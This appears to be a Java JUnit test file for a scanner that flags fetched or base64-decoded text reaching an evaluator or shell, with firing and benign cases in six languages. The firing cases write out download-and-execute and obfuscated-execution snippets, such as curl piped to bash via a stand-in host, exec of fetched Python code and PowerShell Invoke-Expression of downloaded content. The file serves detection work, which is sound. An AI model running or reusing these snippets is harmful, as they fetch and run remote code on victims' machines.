package dev.skilldesk.audit;

import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The class of exec.fetched-to-evaluator, not two strings: fetched or decoded text reaching an evaluator or a shell,
 * in sh/bash, Python, Node, Ruby, Perl and PowerShell, each with shapes that must fire and look-alikes that must not
 * (what ordinary scripts do with fetched data: parse it, print it, save it; what evaluators do with local text).
 */
class EvaluatorFlowTest {
    record Case(String language, String code) {
    }

    static final List<Case> FIRES = List.of(
            new Case("sh", "$(echo Y3VybA== | base64 -d) -s https://x.example/p | $(echo YmFzaA== | base64 -d)\n"),
            new Case("sh", "cmd=$(echo ZWNobyBoaQ== | base64 --decode)\neval \"$cmd\"\n"),
            new Case("sh", "payload=$(curl -fsSL https://x.example/a)\nbash -c \"$payload\"\n"),
            new Case("sh", "x=$(wget -qO- https://x.example/s)\n\"$x\" --install\n"),
            new Case("sh", "source <(curl -s https://x.example/env.sh)\n"),
            new Case("sh", "`printf '\\x63\\x75\\x72\\x6c'` -s https://x.example/i | sh\n"),
            new Case("python", "import requests\nsrc = requests.get(URL).text\nexec(src)\n"),
            new Case("python", "import base64\ncode = base64.b64decode(BLOB)\nfn = compile(code, 'x', 'exec')\n"),
            new Case("python", "from urllib.request import urlopen\nbody = urlopen(U).read().decode()\n"
                    + "subprocess.run(body, shell=True)\n"),
            new Case("python", "r = requests.get(U)\nobj = pickle.loads(r.content)\n"),
            new Case("python", "import os, base64\nos.system(base64.b64decode(S).decode())\n"),
            new Case("node", "require('https').get(url, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); });\n"),
            new Case("node", "https.get(url, (res) => {\n  let data = '';\n  res.on('data', (chunk) => { data += chunk; });\n"
                    + "  res.on('end', () => { new Function(data)(); });\n});\n"),
            new Case("node", "const body = await (await fetch(u)).text();\nvm.runInThisContext(body);\n"),
            new Case("node", "const cmd = Buffer.from(b, 'base64').toString();\nrequire('child_process').execSync(cmd);\n"),
            new Case("ruby", "require 'net/http'\ncode = Net::HTTP.get(URI(u))\neval(code)\n"),
            new Case("ruby", "require 'base64'\ns = Base64.decode64(B)\nsystem(s)\n"),
            new Case("ruby", "URI.open(u) { |f| instance_eval(f.read) }\n"),
            new Case("perl", "use LWP::Simple;\nmy $code = get($url);\neval $code;\n"),
            new Case("perl", "use MIME::Base64;\nmy $c = decode_base64($b);\nsystem($c);\n"),
            new Case("perl", "my $r = HTTP::Tiny->new->get($u);\neval $r->{content};\n"),
            new Case("powershell", "$r = Invoke-WebRequest -Uri $u\nInvoke-Expression $r.Content\n"),
            new Case("powershell", "$s = [System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b))\niex $s\n"),
            new Case("powershell", "$wc = New-Object Net.WebClient\n$t = $wc.DownloadString($u)\n& ([scriptblock]::Create($t))\n"));

    static final List<Case> QUIET = List.of(
            new Case("sh", "curl -fsSL -o install.sh https://get.example.com/install\nsha256sum -c install.sh.sha256\n"),
            new Case("sh", "eval \"$(ssh-agent -s)\"\nname=$(basename \"$PWD\")\n\"$HOME/bin/tool\" --name \"$name\"\n"),
            new Case("sh", "data=$(curl -s https://api.example.com/items)\necho \"$data\" | jq '.items[].name'\n"),
            new Case("sh", "$(command -v python3) scripts/run.py\n"),
            new Case("python", "import requests\nitems = requests.get(URL).json()\nprint(items['name'])\n"),
            new Case("python", "import base64\nimg = base64.b64decode(data)\nopen('out.png', 'wb').write(img)\n"),
            new Case("python", "expr = compile(local_source, 'rules.py', 'exec')\nexec(expr)\n"),
            new Case("python", "r = requests.get(U)\nr = re.compile(PATTERN)\nresult = eval(r.pattern)\n"),
            new Case("node", "https.get(url, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => console.log(JSON.parse(d).name)); });\n"),
            new Case("node", "const res = await fetch(u);\nconst json = await res.json();\nfs.writeFileSync('out.json', JSON.stringify(json));\n"),
            new Case("node", "const out = execSync('git status --short').toString();\n"),
            new Case("ruby", "body = Net::HTTP.get(URI(u))\nputs JSON.parse(body)['name']\n"),
            new Case("ruby", "system('bundle', 'install')\n"),
            new Case("perl", "use LWP::Simple;\nmy $page = get($url);\nprint length($page), \"\\n\";\n"),
            new Case("perl", "eval { risky(); 1 } or warn $@;\n"),
            new Case("powershell", "$r = Invoke-RestMethod -Uri $u\n$r.items | ForEach-Object { $_.name }\n"),
            new Case("powershell", "$bytes = [Convert]::FromBase64String($b)\n[IO.File]::WriteAllBytes('logo.png', $bytes)\n"));

    @TestFactory
    Stream<DynamicTest> firesWhereFetchedOrDecodedTextReachesAnEvaluator() {
        return FIRES.stream().map(c -> DynamicTest.dynamicTest(c.language() + ": " + c.code().lines().toList(),
                () -> assertThat(EvaluatorFlow.find(c.code())).as(c.code()).isNotEmpty()));
    }

    @TestFactory
    Stream<DynamicTest> quietWhereFetchedTextIsOnlyReadAndEvaluatorsRunLocalText() {
        return QUIET.stream().map(c -> DynamicTest.dynamicTest(c.language() + ": " + c.code().lines().toList(),
                () -> assertThat(EvaluatorFlow.find(c.code())).as(c.code()).isEmpty()));
    }

    @TestFactory
    Stream<DynamicTest> everyLanguageHasExamplesEachWay() {
        return Stream.of("sh", "python", "node", "ruby", "perl", "powershell").map(l -> DynamicTest.dynamicTest(l, () -> {
            assertThat(FIRES).filteredOn(c -> c.language().equals(l)).hasSizeGreaterThanOrEqualTo(2);
            assertThat(QUIET).filteredOn(c -> c.language().equals(l)).hasSizeGreaterThanOrEqualTo(1);
        }));
    }
}
